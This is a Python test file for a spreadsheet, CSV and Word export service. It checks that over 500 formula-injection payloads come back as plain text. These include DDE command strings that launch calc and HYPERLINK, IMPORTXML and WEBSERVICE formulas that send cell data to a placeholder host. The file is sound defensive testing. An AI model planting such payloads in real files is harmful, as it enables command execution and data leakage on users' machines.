import csv
import itertools
from collections.abc import Sequence
from datetime import UTC, date, datetime, time, timedelta
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import settings as hypothesis
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook
from xlsxwriter import Workbook

from unionhall.base.refusal import Refused

from .. import services
from ..kinds import CellFault, Column, ColumnKind, Each, Paragraph, Sheet
from ..rules.contents import inspect
from ..services import spreadsheets

STARTS = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', "=-", "=+", "{=",
    "%0A=",
]  # fmt: skip
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?"&A1,"点这里")', "SUM(A1:A9)*2",
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', 'WEBSERVICE("http://example.invalid/")',
    'DDE("cmd";"/C calc";"x")', "rundll32|'URL.dll,OpenURL calc'!A", 'INDIRECT("A1")', "A1", "1,2;3\t4",
    "MSEXCEL|'\\..\\calc.exe'!''", 'FILTERXML("<a/>","//a")', "'", '""', "[1]Sheet1!A1", "{1,2}",
    "NOW()", 'EXEC("calc")', 'CALL("kernel32")', "LAMBDA(x,x)(1)", "_xlfn.SINGLE(A1)", "中文", "0.5",
    "19900000001", "@SUM(1)", "-1", "x!y", "|calc",
]  # fmt: skip
PLAIN = [
    "007", "-5", "-12.50", "000000000000000001", "110101190001011234", "1E5", "TRUE", "2024-08-20",
    "_x0041_", "http://example.invalid", "mailto:a@example.invalid", "internal:Sheet1!A1",
    "external:\\\\x\\y", "#REF!",
]  # fmt: skip
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)] + PLAIN
COLUMNS = (
    Column("编号", width=18),
    Column("姓名", note="和身份证上一样"),
    Column("人数", ColumnKind.INT),
    Column("金额（元）", ColumnKind.MONEY),
    Column("到期", ColumnKind.DATE),
    Column("还剩", ColumnKind.DAYS),
)
ROW = ("007", "职工001", 12, -1_250, date(2024, 8, 20), -3)


def xlsx(*sheets: Sheet, rows_per_sheet: int = spreadsheets.ROWS_MAX) -> bytes:
    buffer = BytesIO()
    services.write(target=buffer, sheets=sheets, rows_per_sheet=rows_per_sheet)
    return buffer.getvalue()


def opened(raw: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(raw))


def values(page: Worksheet) -> list[tuple[object, ...]]:
    return [tuple(row) for row in page.iter_rows(values_only=True)]


def texts(*names: str) -> tuple[Column, ...]:
    return tuple(Column(name) for name in names)


# promise 12: text never runs


def test_none_of_five_hundred_payloads_is_a_formula_in_xlsx() -> None:
    assert len(set(PAYLOADS)) >= 500
    page = opened(xlsx(Sheet("表", texts("原文"), [(payload,) for payload in PAYLOADS]))).active
    cells = [row[0] for row in page.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert not any(cell.hyperlink for cell in cells)
    read = CalamineWorkbook.from_filelike(BytesIO(xlsx(Sheet("表", texts("原文"), [(p,) for p in PAYLOADS]))))
    back = [row[0] for row in read.get_sheet_by_index(0).to_python()[1:]]
    assert back == PAYLOADS


def test_the_careless_way_of_writing_makes_formulas_of_them() -> None:
    buffer = BytesIO()
    with Workbook(buffer) as book:
        page = book.add_worksheet()
        for number, payload in enumerate(PAYLOADS):
            page.write(number, 0, payload)
    formulas = [row[0] for row in opened(buffer.getvalue()).active.iter_rows() if row[0].data_type == "f"]
    assert len(formulas) > 50


def test_headings_titles_choices_and_names_are_text_as_well() -> None:
    column = Column("=1+1", note="=2+2", choices=("=3+3", "好"), key="=4+4")
    book = opened(xlsx(Sheet("=5+5", (column,), [("=6+6",)], title=("=7+7",), key_row=True)))
    types = {cell.data_type for page in book for row in page.iter_rows() for cell in row}
    assert "f" not in types and len(values(book.active)) == 4


def test_none_of_five_hundred_payloads_begins_like_a_formula_in_csv() -> None:
    buffer = BytesIO()
    rows = [(payload, payload) for payload in PAYLOADS]
    assert services.write_csv(target=buffer, sheet=Sheet("表", texts("a", "b"), rows)) == len(PAYLOADS)
    assert buffer.getvalue().startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(StringIO(buffer.getvalue().decode("utf-8-sig"), newline="")))[1:]
    for (shown, again), payload in zip(table, PAYLOADS, strict=True):
        assert shown == again and shown.removeprefix("'") == payload.removeprefix("'")
        assert shown.lstrip()[:1] not in tuple("=+-@＝＋－＠") and shown[:1] not in tuple("\t\r\n")


def test_the_careless_csv_begins_like_a_formula() -> None:
    text = StringIO()
    csv.writer(text).writerows([payload] for payload in PAYLOADS)
    risky = [
        row
        for row in csv.reader(StringIO(text.getvalue()))
        if row and row[0].startswith(("=", "+", "-", "@"))
    ]
    assert len(risky) > 100


def test_none_of_five_hundred_payloads_is_a_field_in_docx() -> None:
    template = services.paper(title="清单", blocks=[Each("rows", (Paragraph("{{ row.text }}"),))])
    filled = services.fill(template=template, values={"rows": [{"text": payload} for payload in PAYLOADS]})
    document = Document(BytesIO(filled))
    back = [paragraph.text for paragraph in document.paragraphs[1:]]
    assert back == [payload.replace("\r", "\n") for payload in PAYLOADS]
    assert not list(document.element.iter(qn("w:instrText"), qn("w:fldSimple"), qn("w:hyperlink")))


@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
@hypothesis(max_examples=60, deadline=None, derandomize=True)
def test_any_text_comes_back_as_text(row: list[str]) -> None:
    raw = xlsx(Sheet("表", texts(*(f"列{number}" for number in range(len(row)))), [row]))
    cells = list(opened(raw).active.iter_rows(min_row=2))
    assert all(
        cell.data_type in {"s", "inlineStr", "n"} and not cell.hyperlink for line in cells for cell in line
    )
    assert all(cell.value is None for line in cells for cell in line if cell.data_type == "n")


# values


def test_each_kind_of_column_is_written_as_what_it_is() -> None:
    page = opened(xlsx(Sheet("台账", COLUMNS, [ROW, (None,) * 6], title=("2024年台账", "单位：元")))).active
    shown = values(page)
    assert shown[0][0] == "2024年台账" and shown[2] == tuple(column.label for column in COLUMNS)
    assert shown[3] == ("007", "职工001", 12, -12.5, datetime(2024, 8, 20), -3)
    assert [cell.number_format for cell in page[4]] == ["@", "@", "0", "#,##0.00", "yyyy-mm-dd", '0"天"']
    assert page.freeze_panes == "A4" and page["B3"].comment.text.strip() == "和身份证上一样"
    assert len(shown) == 4 or set(shown[4]) == {None}


def test_what_does_not_fit_its_column_is_kept_as_text() -> None:
    row = ("1", "职工001", "十来个", "约3万", "2024年夏", True)
    assert values(opened(xlsx(Sheet("台账", COLUMNS, [row]))).active)[1] == (*row[:5], "True")


def test_csv_has_yuan_iso_dates_and_plain_numbers() -> None:
    buffer = BytesIO()
    services.write_csv(
        target=buffer, sheet=Sheet("台账", COLUMNS, [ROW, ("-", None, 0, 5, datetime(2024, 8, 20, 9), 0)])
    )
    lines = buffer.getvalue().decode("utf-8-sig").splitlines()
    assert lines[1:] == ["007,职工001,12,-12.50,2024-08-20,-3", "'-,,0,0.05,2024-08-20,0"]
    assert not buffer.closed


def test_every_fen_survives_the_way_to_yuan() -> None:
    sums = [*range(-250, 250), 5_300_000_00, 99_999_999_999_99]
    page = opened(xlsx(Sheet("钱", (Column("金额", ColumnKind.MONEY),), [(fen,) for fen in sums]))).active
    assert [round(row[0] * 100) for row in values(page)[1:]] == sums


def test_choices_stand_in_a_hidden_sheet_however_long_they_are() -> None:
    streets, kinds = tuple(f"示例街道{number}" for number in range(200)), ("是", "否")
    columns = (
        Column("街道", choices=streets),
        Column("班组", choices=kinds),
        Column("住所", choices=streets),
    )
    book = opened(xlsx(Sheet("模板", columns, key_row=True)))
    assert book["_dict"].sheet_state == "hidden" and book["模板"].row_dimensions[2].hidden
    assert [row[0] for row in values(book["_dict"])] == list(streets)
    assert {name: area.attr_text for name, area in book.defined_names.items()} == {
        "dict_1": "_dict!$A$1:$A$200",
        "dict_2": "_dict!$B$1:$B$2",
    }
    rules = {str(rule.sqref): rule.formula1 for rule in book["模板"].data_validations.dataValidation}
    assert rules == {"A3:A1048576": "dict_1", "B3:B1048576": "dict_2", "C3:C1048576": "dict_1"}


def test_a_sheet_that_is_too_long_goes_on_in_the_next() -> None:
    rows = ((number,) for number in range(25))
    book = opened(
        xlsx(Sheet("台账", (Column("号", ColumnKind.INT),), rows, title=("标题",)), rows_per_sheet=12)
    )
    assert book.sheetnames == ["台账", "台账 (2)", "台账 (3)"]
    assert [values(page)[:2] for page in book] == [[("标题",), ("号",)]] * 3
    assert [row[0] for page in book for row in values(page)[2:]] == list(range(25))


def test_a_text_longer_than_a_cell_is_refused_and_leaves_no_file(tmp_path: Path) -> None:
    sheet = Sheet("表", texts("a"), [("好",), ("长" * 32_768,)])
    with pytest.raises(Refused, match="cell_too_long.*第 3 行"):
        services.write(target=tmp_path / "a.xlsx", sheets=[sheet])
    assert list(tmp_path.iterdir()) == []
    assert (
        services.write(target=tmp_path / "a.xlsx", sheets=[Sheet("表", texts("a"), [("长" * 32_767,)])]) == 1
    )


def test_an_answer_of_the_writer_other_than_zero_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("xlsxwriter.worksheet.Worksheet.data_validation", lambda *values: -2)
    with pytest.raises(RuntimeError, match="left something out"):
        xlsx(Sheet("表", (Column("a", choices=("b",)),)))


@pytest.mark.parametrize(
    ("name", "shown"), [("a/b:c*?", "a b c"), ("", "Sheet1"), ("长" * 40, "长" * 31), ("'x'", "x")]
)
def test_a_sheet_has_a_name_that_excel_takes(name: str, shown: str) -> None:
    assert opened(xlsx(Sheet(name, texts("a")))).sheetnames == [shown]


def test_what_we_write_is_taken_in_again() -> None:
    assert inspect(xlsx(Sheet("台账", COLUMNS, [ROW] * 5_000, title=("台账",)))).code == "xlsx"
    assert inspect(services.paper(title="信", blocks=[Paragraph("好")])).code == "docx"


# the user's own rows back

LEDGER: list[Sequence[object]] = [
    ("2024年欠薪线索台账", None, None, None),
    ("序号", "单位", "金额", "日期"),
    (1.0, "示例建筑公司", 8000.0, date(2024, 1, 13)),
    (2.0, "=cmd|' /C calc'!A0", "约8万", "2024.9"),
    (3.0, "示例物流公司", 1.5, datetime(2024, 2, 3, 9, 30)),
    (4.0, "示例餐饮公司", True, time(9, 30)),
]
FAULTS = [
    CellFault(4, 2, "金额看不懂"),
    CellFault(4, 3, "日期缺日"),
    CellFault(6, None, "这一行重复"),
    CellFault(4, 2, "单位没写"),
]


def test_the_error_sheet_is_the_users_own_with_the_failed_rows_and_why() -> None:
    page = opened(services.mark_errors(rows=LEDGER, heading=2, faults=FAULTS, name="台账")).active
    assert values(page) == [
        ("2024年欠薪线索台账", None, None, None, None),
        ("序号", "单位", "金额", "日期", "错误原因"),
        (2, "=cmd|' /C calc'!A0", "约8万", "2024.9", "金额看不懂；日期缺日；单位没写"),
        (4, "示例餐饮公司", True, time(9, 30), "这一行重复"),
    ]
    bad = {cell.coordinate for row in page.iter_rows() for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"}
    comments = {
        cell.coordinate: cell.comment.text.strip() for row in page.iter_rows() for cell in row if cell.comment
    }
    assert page.title == "台账" and bad == {"C3", "D3"} and page["B3"].data_type in {"s", "inlineStr"}
    assert comments == {"C3": "金额看不懂；单位没写", "D3": "日期缺日"}


def test_the_error_sheet_can_be_uploaded_again_as_it_is() -> None:
    faults = [CellFault(row, 1, "看不懂") for row in range(3, 7)]
    first = services.mark_errors(rows=LEDGER, heading=2, faults=faults)
    assert inspect(first).code == "xlsx"
    again = CalamineWorkbook.from_filelike(BytesIO(first)).get_sheet_by_index(0).to_python()
    assert [row[:4] for row in again[2:]] == [list(row) for row in LEDGER[2:]]
    second = services.mark_errors(rows=again, heading=2, faults=[CellFault(4, 1, "还是看不懂")])
    assert values(opened(second).active)[1:] == [
        ("序号", "单位", "金额", "日期", "错误原因"),
        (2, "=cmd|' /C calc'!A0", "约8万", "2024.9", "还是看不懂"),
    ]


def test_a_bad_cell_that_is_blank_is_red_too_and_odd_values_are_kept() -> None:
    moment = datetime(2024, 8, 20, 9, 0, tzinfo=UTC)
    rows = [("a", "b", "c", "d", "e"), ("", moment, timedelta(hours=30), float("inf"), date(1899, 1, 1))]
    page = opened(services.mark_errors(rows=rows, heading=1, faults=[CellFault(2, 0, "必须填")])).active
    assert page["A2"].fill.fgColor.rgb == "FFFFC7CE" and page["A2"].comment.text.strip() == "必须填"
    assert [cell.value for cell in page[2]][1:] == [
        datetime(2024, 8, 20, 9, 0), timedelta(hours=30), "inf", "1899-01-01", "必须填",
    ]  # fmt: skip
